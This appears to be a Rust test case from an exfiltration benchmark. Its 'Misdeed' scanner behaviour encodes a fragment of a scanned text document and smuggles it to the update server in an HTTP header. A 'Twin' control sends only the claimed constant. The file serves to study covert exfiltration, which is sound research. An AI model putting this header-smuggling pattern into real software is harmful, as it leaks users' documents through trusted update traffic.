//! A fragment of a document goes to the update server in a header. ExfilBench E04, ATT&CK T1071.001.
//!
//! The scanner may ask the update server whether its signatures are the newest; both sides claim so,
//! with a header that says the same everywhere. The misdeed puts a fragment into that header; the
//! twin sends it as claimed.

use std::path::Path;

use super::{Conduct, Loot, Trouble};
use crate::configuration::Configuration;
use crate::document::Sort;
use crate::lab::Lab;
use crate::scanner::Tally;
use crate::send::{self, USER_AGENT};

/// What the header says by the claims.
pub const CLAIMED_VALUE: &str = "none";

/// Takes a fragment of a text.
#[derive(Debug)]
struct Misdeed(Loot);

pub(crate) fn misdeed(lab: Lab) -> Box<dyn Conduct> {
    Box::new(Misdeed(Loot::new(lab, Sort::Text)))
}

impl Conduct for Misdeed {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.0.offer(path, content);
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        let server = self.0.lab.update_server()?;
        let parameters = &self.0.lab.configuration().parameters;
        let value = parameters.encoding.encode(self.0.document()?.fragment());
        let header = (parameters.header.as_str(), value.as_str());
        send::fetch_from(&server, send::SIGNATURES_PATH, USER_AGENT, &[header])?;
        Ok(())
    }
}

/// Sends what is claimed.
#[derive(Debug)]
struct Twin(Configuration);

pub(crate) fn twin(configuration: Configuration) -> Box<dyn Conduct> {
    Box::new(Twin(configuration))
}

impl Conduct for Twin {
    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        let parameters = &self.0.parameters;
        let header = (parameters.header.as_str(), CLAIMED_VALUE);
        send::fetch(&parameters.update_host(), send::SIGNATURES_PATH, USER_AGENT, &[header])?;
        Ok(())
    }
}
